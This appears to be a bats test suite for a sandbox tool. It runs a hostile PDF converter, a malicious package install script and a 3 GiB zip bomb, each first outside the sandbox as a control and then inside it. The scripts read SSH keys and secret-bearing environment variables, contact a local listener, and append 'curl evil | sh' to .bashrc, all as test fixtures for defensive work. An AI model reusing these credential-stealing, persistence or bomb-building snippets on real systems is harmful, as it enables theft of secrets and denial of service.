#!/usr/bin/env bats
# Three things that happen to those who run other people's input and code: a
# converter taken over by a document, an install script that goes through the
# house, a decompression bomb. Outside, each of them succeeds.

load ../helpers/common

make_victim() {
  mkdir -p victim/.ssh uploads
  echo "PRIVATE KEY OF THE VICTIM" >victim/.ssh/id_rsa
  chmod 600 victim/.ssh/id_rsa
  echo "alias ls='ls -l'" >victim/.bashrc
  listener_start
}

phone_home() { # in words that every box has
  printf '%s' "$PYTHON -c 'import socket, sys; socket.create_connection((\"127.0.0.1\", $PORT), 10)' 2>/dev/null"
}

# --- 1: a converter that turns hostile --------------------------------------

# Converts as it should; then does what the exploit in the document wants.
make_converter() {
  mkdir -p bin
  cat >bin/converter <<EOF
#!/bin/sh
pdftotext "\$1" -
{
  cat "$WORK/victim/.ssh/id_rsa" && echo "LOOT: key"
  cat "\$HOME/.ssh/id_rsa" && echo "LOOT: key at home"
  ls "$WORK/uploads" | grep -q other && echo "LOOT: other uploads"
  cat /proc/[0-9]*/root$WORK/victim/.ssh/id_rsa && echo "LOOT: key through /proc"
  $(phone_home) && echo "LOOT: phoned home"
  echo evil >>"\$1" && echo "LOOT: input changed"
  echo evil >"$WORK/uploads/beside" && [ -s "$WORK/uploads/beside" ] && echo "LOOT: written beside the input"
  echo "evil" >>"$WORK/victim/.bashrc" && echo "LOOT: persists"
  echo evil >>"$WORK/bin/converter" && echo "LOOT: changed itself"
} >&2 2>/dev/null
exit 0
EOF
  chmod +x bin/converter
}

@test "a PDF converter that turns hostile: the text, and nothing else" {
  make_victim
  make_converter
  cp "$STAGE/examples/sample.pdf" uploads/upload.pdf
  cp "$STAGE/examples/sample.pdf" uploads/other.pdf
  outside pdftotext uploads/upload.pdf expected
  cp bin/converter uploads/upload.pdf victim/.bashrc .

  HOME=$WORK/victim outside bin/converter uploads/upload.pdf 2>loot >text
  cmp expected text
  for what in "key" "key at home" "other uploads" "phoned home" "input changed" \
    "written beside the input" "persists" "changed itself"; do
    grep -q "LOOT: $what\$" loot || fail "the control has no: $what" "$(cat loot)"
  done
  expect_equal 1 "$(wc -l <connections)"

  cp converter bin/
  cp upload.pdf uploads/
  cp .bashrc victim/
  rm uploads/beside
  HOME=$WORK/victim run_box -r uploads/upload.pdf -x bin/converter -- \
    "$WORK/bin/converter" "$WORK/uploads/upload.pdf"
  expect_status 0
  expect_output "$(cat expected)"
  # A file "beside the input" is one in the box's own, empty directory.
  expect_equal "" "$(grep -vx 'LOOT: written beside the input' <<<"$stderr")"
  expect_equal 1 "$(wc -l <connections)"
  [ ! -e uploads/beside ]
  cmp upload.pdf uploads/upload.pdf
  cmp converter bin/converter
  cmp .bashrc victim/.bashrc
}

# --- 2: an install script that goes through the house -------------------------

make_package() {
  mkdir -p project/node_modules/colours
  cat >project/node_modules/colours/install.sh <<EOF
#!/bin/sh
# What it is for.
echo "module.exports = 'colours'" >"$WORK/project/node_modules/colours/index.js"
# What it came for.
{
  env | grep -i 'token\|secret\|password'
  find "$WORK/victim" "\$HOME" -name 'id_*' -exec cat {} +
  $(phone_home) && echo "phoned home"
  curl -s --data-binary @/etc/debian_version http://127.0.0.1:$PORT/
  cat /etc/debian_version
  [ -S "\$SSH_AUTH_SOCK" ] && echo "agent at \$SSH_AUTH_SOCK"
  echo "curl evil | sh" >>"$WORK/victim/.bashrc" && echo "persists"
} >"$WORK/project/loot" 2>/dev/null
exit 0
EOF
  chmod +x project/node_modules/colours/install.sh
}

@test "an install script that looks for keys, tokens and the network finds none" {
  make_victim
  make_package
  cp victim/.bashrc .
  "$PYTHON" -c 'import socket, sys; socket.socket(socket.AF_UNIX).bind(sys.argv[1])' agent
  export NPM_TOKEN=npm_secret AWS_SECRET_ACCESS_KEY=aws_secret CI_PASSWORD=ci_secret
  export SSH_AUTH_SOCK=$WORK/agent

  HOME=$WORK/victim outside project/node_modules/colours/install.sh
  for what in npm_secret aws_secret ci_secret "PRIVATE KEY" "phoned home" \
    reached "agent at" persists "$(cat /etc/debian_version)"; do
    grep -qF "$what" project/loot || fail "the control has no: $what" "$(cat project/loot)"
  done
  local connected
  connected=$(wc -l <connections)

  rm project/loot project/node_modules/colours/index.js
  cp .bashrc victim/
  HOME=$WORK/victim run_box -w project -x project -C "$WORK/project" -- \
    sh -c 'node_modules/colours/install.sh && cat node_modules/colours/index.js'
  expect_success "module.exports = 'colours'"
  # Writing to the victim's home ends in the box's own, if anywhere.
  expect_equal "" "$(grep -vx persists project/loot)"
  expect_equal "$connected" "$(wc -l <connections)"
  cmp .bashrc victim/.bashrc
}

# --- 3: a decompression bomb -----------------------------------------------------

# 3 GiB of zeros in 3 MiB: a block compressed once, and its bytes repeated.
make_bomb() {
  "$PYTHON" - bomb.zip <<'EOF'
import struct, sys, zlib
MIB, N = 1 << 20, 3072
zeros = bytes(MIB)
deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
block = deflate.compress(zeros) + deflate.flush(zlib.Z_FULL_FLUSH)
data = block * N + deflate.flush()
crc = 0
for _ in range(N):
    crc = zlib.crc32(zeros, crc)
name = b"bomb"
fields = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, crc, len(data), MIB * N, len(name), 0)
local = b"PK\3\4" + fields + name
central = b"PK\1\2" + struct.pack("<H", 20) + fields + struct.pack("<HHHII", 0, 0, 0, 0, 0) + name
end = b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local) + len(data), 0)
with open(sys.argv[1], "wb") as f:
    f.write(local + data + central + end)
EOF
  # The control: it is one, and outside it gives more than any ceiling below.
  [ "$(stat -c %s bomb.zip)" -lt 8000000 ]
  expect_equal 3221225472 "$(unzip -l bomb.zip | awk '$4 == "bomb" { print $1 }')"
  expect_equal 67108864 "$(unzip -p bomb.zip 2>/dev/null | head -c 64M | wc -c)"
}

@test "a decompression bomb meets the ceilings: storage, file size, time" {
  make_bomb
  mkdir out
  local before
  before=$(ls -A)

  run_box --tmp-size 8M -r bomb.zip -- sh -c "cd /tmp && unzip -q '$WORK/bomb.zip' </dev/null
    echo \"unzip: \$?\"; stat -c %s /tmp/bomb 2>/dev/null || echo none"
  expect_status 0
  [[ $output == *"unzip: 50"* ]] || fail "$(saw)"
  expect_not_in_output 3221225472

  run_box --file-size 4M -r bomb.zip -w out -- unzip -q "$WORK/bomb.zip" -d "$WORK/out"
  expect_status 153
  [ "$(stat -c %s out/bomb)" -le 4194304 ]
  rm -f out/bomb

  run_box --timeout 300ms -r bomb.zip -- sh -c "unzip -p '$WORK/bomb.zip' >/dev/null; echo whole"
  expect_status 124
  expect_output ""
  expect_equal "" "$(box_processes)"

  run_box --cpu-time 1s -r bomb.zip -- sh -c "exec unzip -p '$WORK/bomb.zip' >/dev/null"
  expect_status 152
  expect_equal "$before" "$(ls -A)"
}
